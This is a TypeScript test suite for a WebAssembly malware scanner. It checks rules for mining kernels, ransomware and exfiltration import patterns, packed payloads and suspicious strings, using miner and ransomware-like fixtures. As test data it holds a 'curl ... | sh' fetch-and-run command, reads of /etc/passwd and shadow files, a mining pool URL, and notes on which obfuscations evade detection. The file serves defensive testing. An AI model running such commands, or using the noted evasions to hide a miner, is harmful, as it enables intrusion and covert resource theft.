/**
 * The code rules on real C guests (positives and benign look-alikes) and their obfuscated variants, and on
 * small WAT modules for the patterns C does not produce. What an obfuscation hides is asserted too: the
 * tests say what is caught and what is not.
 */
import { before, describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { readWasm } from '../../../server/src/engine/binary/reader';
import { checkModel } from '../../../server/src/engine/policy/check';
import type { Policy } from '../../../server/src/engine/policy/definition';
import { effectivePolicy } from '../../../server/src/engine/policy/load';
import { parseWat } from '../../../server/src/engine/wat';
import type { EngineDiagnostic } from '../../../server/src/engine/diagnostic';
import { clangMissing } from '../../clang';
import { prng, wat } from '../binary/wasm-fixtures';
import { binaryenVariant, buildGuest } from './guests';

const CODE_RULES = ['hash-kernel', 'mining-kernel', 'network-endpoint', 'suspicious-string', 'host-code-execution', 'capability-combination', 'packed-payload', 'high-entropy-data'];
const SCAN: Policy = { code: { scan: true } };

function check(bytes: Uint8Array, policy: Policy = SCAN): EngineDiagnostic[] {
  const read = readWasm(bytes, { names: true });
  return checkModel(read.model, effectivePolicy(policy, 'm.wasm'), { bytes }).filter((d) => CODE_RULES.includes(d.code));
}
const codes = (ds: EngineDiagnostic[]) => [...new Set(ds.map((d) => `${d.code}:${d.severity}`))].sort();
const of = (ds: EngineDiagnostic[], code: string) => ds.filter((d) => d.code === code);

describe('code rules on C guests', () => {
  const g: Record<string, Uint8Array> = {};
  let clangError: string | undefined;
  before(() => {
    try {
      for (const n of ['miner', 'miner-split', 'checksum', 'crc-prng', 'ransom']) g[n] = buildGuest(n);
    } catch (e) {
      clangError = `clang cannot build the guests: ${(e as Error).message.split('\n')[0]}`;
    }
  });

  it('a mining-style hash loop with a pool URL and a wallet: mining-kernel (error) on the SHA-256 block function', (t) => {
    if (clangError) return clangMissing(t, clangError);
    const ds = check(g.miner);
    assert.deepEqual(codes(ds), ['hash-kernel:info', 'mining-kernel:error', 'network-endpoint:warning', 'suspicious-string:warning']);
    const [mining] = of(ds, 'mining-kernel');
    assert.match(mining.message, /\$sha256_block/);
    assert.match(mining.message, /mining pool endpoint "stratum\+tcp:\/\/pool\.example-mining\.net:3333"/);
    assert.match(mining.message, /Monero wallet address/);
    const [kernel] = of(ds, 'hash-kernel');
    assert.match(kernel.message, /looks like a hashing\/mining kernel \(SHA-256/);
    assert.match(kernel.message, /\d+(\.\d+)?% of the code/);
    assert.match(kernel.message, /rotates; rotate\/xor\/shift\/add are \d/);
    // the finding sits on the function's body
    const read = readWasm(g.miner, { names: true });
    const func = read.model.funcs[kernel.data!.func as number];
    assert.ok(func.span.start <= kernel.span.start && kernel.span.end <= func.span.end);
  });

  it('a sha256sum (a real hash used legitimately) is information only; a CRC with a xorshift PRNG is quiet', (t) => {
    if (clangError) return clangMissing(t, clangError);
    assert.deepEqual(codes(check(g.checksum)), ['hash-kernel:info']);
    const crc = check(g['crc-prng']);
    assert.deepEqual(of(crc, 'hash-kernel'), []);
    assert.deepEqual(of(crc, 'mining-kernel'), []);
    // its one URL is an endpoint to review, and the allowed list takes it away
    assert.equal(of(crc, 'network-endpoint').length, 1);
    assert.deepEqual(of(check(g['crc-prng'], { code: { scan: true, allowedEndpoints: ['*.org'] } }), 'network-endpoint'), []);
  });

  it('a ransomware-like WASI program: the ransom triad of imports and the ransom note\'s Bitcoin address', (t) => {
    if (clangError) return clangMissing(t, clangError);
    const ds = check(g.ransom);
    const [combo] = of(ds, 'capability-combination');
    assert.equal(combo.severity, 'warning');
    assert.equal(combo.data?.pattern, 'ransomware');
    assert.deepEqual(combo.data?.imports, ['wasi_snapshot_preview1.fd_readdir', 'wasi_snapshot_preview1.path_rename', 'wasi_snapshot_preview1.path_unlink_file', 'wasi_snapshot_preview1.random_get']);
    assert.match(of(ds, 'suspicious-string')[0].message, /Bitcoin wallet address: "1BvBMSEYstWetqTFn5Au4m4GFg7xJaNVN2"/);
  });

  it('without code.scan only the import rules run (a check stays header-only)', (t) => {
    if (clangError) return clangMissing(t, clangError);
    assert.deepEqual(check(g.miner, {}), []);
    assert.deepEqual(codes(check(g.ransom, {})), ['capability-combination:warning']);
  });

  it('severities follow the policy: mining-kernel can be lowered, hash-kernel raised, either turned off', (t) => {
    if (clangError) return clangMissing(t, clangError);
    const ds = check(g.miner, { code: { scan: true }, rules: { 'mining-kernel': 'warning', 'hash-kernel': 'error', 'network-endpoint': 'off' } });
    assert.deepEqual(codes(ds), ['hash-kernel:error', 'mining-kernel:warning', 'suspicious-string:warning']);
  });

  describe('obfuscated variants (binaryen passes, stripped names, split constants)', () => {
    it('binaryen -O3 with names stripped: still caught (mining-kernel), the function is named by index only', async (t) => {
      if (clangError) return clangMissing(t, clangError);
      const v = await binaryenVariant(g.miner, { level: 3, stripNames: true });
      const ds = check(v);
      const [mining] = of(ds, 'mining-kernel');
      assert.ok(mining, codes(ds).join());
      assert.match(mining.message, /the largest is function \d+\)/);
      assert.doesNotMatch(mining.message, /\$sha256_block/);
    });

    it('binaryen --flatten (every value through a local): no function stands out any more, the K table in data and the pool still make it a miner', async (t) => {
      if (clangError) return clangMissing(t, clangError);
      const v = await binaryenVariant(g.miner, { passes: ['flatten'] });
      const ds = check(v);
      // flattening adds a local.set/get per value: the density per instruction falls under the bar, so the
      // function itself is not singled out; the SHA-256 table in data is reported on the data instead
      const kernels = of(ds, 'hash-kernel');
      assert.ok(kernels.length > 0 && kernels.every((d) => /^Data segment \d+ holds the SHA-256/.test(d.message)), kernels.map((d) => d.message).join('\n'));
      const [mining] = of(ds, 'mining-kernel');
      assert.match(mining.message, /its data holds the SHA-256 round constant table .* \(no single function stands out as the kernel\) and .*mining pool endpoint/);
    });

    it('split constants and a pool URL assembled at run time: the hash loop is still seen, the mining evidence is not', (t) => {
      if (clangError) return clangMissing(t, clangError);
      const ds = check(g['miner-split']);
      const kernels = of(ds, 'hash-kernel');
      assert.equal(kernels.length, 1);
      assert.doesNotMatch(kernels[0].message, /SHA-256/); // no constant names it
      assert.deepEqual(of(ds, 'mining-kernel'), []); // missed: no pool, wallet or name in the binary
      assert.deepEqual(of(ds, 'network-endpoint'), []);
    });
  });
});

describe('code rules on WAT modules', () => {
  it('host-code-execution: emscripten_run_script and wasm-bindgen eval shims, not __wbg_newnoargs', async () => {
    const bytes = await wat(`(module
      (import "env" "emscripten_run_script" (func (param i32)))
      (import "wbg" "__wbg_eval_1a2b3c4d" (func (param i32 i32) (result i32)))
      (import "wbg" "__wbg_newnoargs_5e6f7a8b" (func (param i32 i32) (result i32)))
      (import "env" "evaluate" (func)))`);
    const ds = check(bytes, {});
    assert.deepEqual(of(ds, 'host-code-execution').map((d) => d.data?.name), ['emscripten_run_script', '__wbg_eval_1a2b3c4d']);
    assert.equal(of(ds, 'host-code-execution')[0].severity, 'error');
  });

  it('capability-combination: exfiltration (files + sockets), and Emscripten syscalls count', async () => {
    const bytes = await wat(`(module
      (import "wasi_snapshot_preview1" "path_open" (func (param i32 i32 i32 i32 i32 i64 i64 i32 i32) (result i32)))
      (import "wasi_snapshot_preview1" "sock_send" (func (param i32 i32 i32 i32 i32) (result i32))))`);
    assert.deepEqual(of(check(bytes, {}), 'capability-combination').map((d) => d.data?.pattern), ['exfiltration']);
    const em = await wat(`(module
      (import "env" "__syscall_getdents64" (func (param i32 i32 i32) (result i32)))
      (import "env" "__syscall_unlinkat" (func (param i32 i32 i32) (result i32)))
      (import "env" "__syscall_getrandom" (func (param i32 i32 i32) (result i32))))`);
    assert.deepEqual(of(check(em, {}), 'capability-combination').map((d) => d.data?.pattern), ['ransomware']);
    // two of the three are not the triad
    const two = await wat(`(module
      (import "wasi_snapshot_preview1" "fd_readdir" (func (param i32 i32 i32 i64 i32) (result i32)))
      (import "wasi_snapshot_preview1" "random_get" (func (param i32 i32) (result i32))))`);
    assert.deepEqual(of(check(two, {}), 'capability-combination'), []);
  });

  it('packed-payload: a Wasm module in a data segment, and a function table written by code and called through', async () => {
    const bytes = await wat(`(module
      (memory (export "memory") 1 1)
      (table $t 4 4 funcref)
      (type $v (func))
      (func $f)
      (elem declare func $f)
      (func $install (table.set $t (i32.const 0) (ref.func $f)))
      (func $run (call_indirect $t (type $v) (i32.const 0)))
      (data (i32.const 16) "payload: \\00asm\\01\\00\\00\\00\\01\\04\\01\\60\\00\\00"))`);
    const ds = of(check(bytes), 'packed-payload');
    assert.equal(ds.length, 2, ds.map((d) => d.message).join('\n'));
    assert.match(ds[0].message, /Data segment 0 holds a WebAssembly module .* from the exported memory/);
    assert.match(ds[1].message, /function 1 \(\$install\) writes function table 0 \(table\.set\) that the module calls through/);
  });

  it('high-entropy-data (info) on random bytes above code.packedMinBytes, packed-payload when an eval-like import can run them; text stays quiet', async () => {
    const rnd = prng(19);
    const hexBytes = Array.from({ length: 20_000 }, () => '\\' + Math.floor(rnd() * 256).toString(16).padStart(2, '0')).join('');
    const text = 'the quick brown fox jumps over the lazy dog; '.repeat(500);
    const bytes = await wat(`(module (memory 1) (data (i32.const 0) "${hexBytes}") (data (i32.const 30000) "${text}"))`);
    const ds = check(bytes);
    assert.deepEqual(codes(ds), ['high-entropy-data:info']);
    assert.equal(of(ds, 'high-entropy-data')[0].data?.segment, 0);
    assert.deepEqual(check(bytes, { code: { scan: true, packedMinBytes: 30_000 } }), []);
    const withEval = await wat(`(module (import "env" "emscripten_run_script" (func (param i32))) (memory 1) (data (i32.const 0) "${hexBytes}"))`);
    assert.match(of(check(withEval), 'packed-payload')[0].message, /looks encrypted or compressed, and the module imports env\.emscripten_run_script/);
  });

  it('suspicious-string: shell commands and sensitive paths, a path under a sandbox mount is not reported', async () => {
    const bytes = await wat(`(module (memory 1)
      (data (i32.const 0) "curl -s http://203.0.113.7/x | sh\\00")
      (data (i32.const 100) "/etc/passwd\\00/data/etc/shadow.txt\\00"))`);
    const ds = check(bytes, { code: { scan: true }, sandbox: { dirs: [{ host: 'd', guest: '/data' }] } });
    const s = of(ds, 'suspicious-string').map((d) => d.data?.kind);
    assert.deepEqual(s, ['shell', 'path']);
    assert.deepEqual(of(ds, 'network-endpoint').map((d) => d.data?.host), ['203.0.113.7']);
  });

  it('a WAT source has no bytes to scan: the code rules report nothing on it', () => {
    const doc = parseWat('(module (memory 1) (data (i32.const 0) "stratum+tcp://pool.example.net:3333"))');
    assert.deepEqual(checkModel(doc.modules[0], effectivePolicy(SCAN, 'm.wat')).filter((d) => CODE_RULES.includes(d.code)), []);
  });
});
